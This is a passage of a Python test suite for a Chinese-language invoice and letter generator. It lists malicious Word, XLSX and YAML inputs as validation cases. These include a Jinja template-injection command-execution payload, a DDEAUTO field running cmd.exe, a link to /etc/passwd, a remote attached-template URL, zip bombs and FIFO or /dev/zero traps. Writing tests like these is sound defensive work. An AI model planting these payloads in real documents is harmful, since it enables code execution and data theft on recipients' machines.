        {"ar.csv": HEADER + ROW, WORD: word_template("致：{{ 客户名称 }}", *SANDBOX_ESCAPES)},
        ["validate"],
    ),
    Case(
        "word-sandbox-escape-letters",
        {"ar.csv": HEADER + ROW, WORD: word_template("致：{{ 客户名称 }}", SANDBOX_ESCAPES[2])},
        WORD_LETTERS,
    ),
    Case(
        "word-linked-image",
        {"ar.csv": HEADER + ROW, WORD: _with_relationship("image", "http://203.0.113.9/track.png")},
        WORD_LETTERS,
    ),
    Case(
        "word-linked-local-file",
        {"ar.csv": HEADER + ROW, WORD: _with_relationship("image", "file:///etc/passwd")},
        ["validate"],
    ),
    Case(
        "word-ole-object",
        {"ar.csv": HEADER + ROW, WORD: _with_relationship("oleObject", "embeddings/oleObject1.bin", external=False)},
        ["validate"],
    ),
    Case(
        "word-attached-template",
        {
            "ar.csv": HEADER + ROW,
            WORD: _with_relationship("attachedTemplate", "http://203.0.113.9/normal.dotm", part="word/settings.xml"),
        },
        ["validate"],
    ),
    Case(
        "word-includepicture-field", {WORD: _with_field('INCLUDEPICTURE "http://203.0.113.9/x.png" \\d')}, ["validate"]
    ),
    Case(
        "word-ddeauto-field",
        {WORD: _with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')},
        ["validate"],
    ),
    Case("word-renamed-docm", {"ar.csv": HEADER + ROW, WORD: _macro_enabled()}, WORD_LETTERS),
    Case("word-doctype", {WORD: _with_doctype()}, ["validate"]),
    Case("word-bomb", {"ar.csv": HEADER + ROW, WORD: word_bomb()}, WORD_LETTERS),
    Case(
        "word-tag-in-document-properties",
        {
            WORD: word_with(
                {
                    "docProps/core.xml": _part(word_template("致"), "docProps/core.xml").replace(
                        b"</cp:coreProperties>",
                        b"<dc:subject>{{ cycler.__init__.__globals__.os.popen('id').read() }}</dc:subject>"
                        b"</cp:coreProperties>",
                    )
                }
            )
        },
        ["validate"],
    ),
]


# --- issue 30: every read checked before it is read; extreme values give one message ---------------


def _far_cell() -> bytes:
    """A workbook with one cell at XFD1048576 (the reader would allocate 17 billion cells)."""
    import io

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["客户名称", "发票号码", "到期日", "金额"])
    sheet.append(["甲公司", "F1", "2026-10-01", 1])
    sheet["XFD1048576"] = "x"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _far_cell_undeclared() -> bytes:
    """The same without a <dimension> element: the farthest cell reference is the extent."""
    import re

    data = _far_cell()
    sheet = _part(data, "xl/worksheets/sheet1.xml")
    return _xlsx_member(data, "xl/worksheets/sheet1.xml", re.sub(rb"<dimension [^>]*/>", b"", sheet))


PLAN_LETTERS = [
    "letters",
    "ar.csv",
    "--from-plan",
    "plan-2026.csv",
    "--format",
    "html",
    "--date",
    "2026-11-30",
    "--out",
    "out",
]
LONG_NAME = "华东" + "很长的名字" * 52 + "有限公司"
"""A 266-character customer name (ERP exports hold such, pasted from contracts)."""

CASES += [
    Case("yaml-overlay-dev-zero", {"site_config/playbook/ours.yaml": Special("link", "/dev/zero")}, isolated=True),
    Case("yaml-overlay-fifo", {"site_config/playbook/ours.yaml": Special("fifo")}, isolated=True),
    Case("company-file-fifo", {"site_config/company.yaml": Special("fifo")}, ["validate"], isolated=True),
    Case("override-template-fifo", {"site_config/overrides/site/index.md.j2": Special("fifo")}, isolated=True),
    Case(
        "override-template-dev-zero",
        {"site_config/overrides/site/index.md.j2": Special("link", "/dev/zero")},
        ["validate"],
        isolated=True,
    ),
    Case(
        "word-template-dev-zero",
        {"ar.csv": HEADER + ROW, WORD: Special("link", "/dev/zero")},
        WORD_LETTERS,
        isolated=True,
    ),
    Case("word-template-fifo", {WORD: Special("fifo")}, ["validate"], isolated=True),
    Case("plan-fifo", {"ar.csv": HEADER + ROW, "plan-2026.csv": Special("fifo")}, PLAN_LETTERS, isolated=True),
    Case("erp-csv-dev-zero", {"ar.csv": Special("link", "/dev/zero")}, LETTERS, isolated=True),
    Case("erp-xlsx-far-cell", {"ar.xlsx": _far_cell()}, XLSX_LETTERS, isolated=True),
    Case("erp-xlsx-far-cell-undeclared", {"ar.xlsx": _far_cell_undeclared()}, XLSX_LETTERS, isolated=True),
    Case("csv-invoice-dated-year-one", {"ar.csv": HEADER + ROW.replace("2026-09-01", "0001-01-01")}, LETTERS),
]

ISOLATED = {"yaml-alias-bomb", "erp-xlsx-shared-strings-bomb", "word-bomb", "yaml-very-large", "erp-million-bad-rows"}
"""Earlier cases that would take the machine if a cap regressed: run capped too."""
for _case in CASES:
    if _case.name in ISOLATED:
        _case.isolated = True
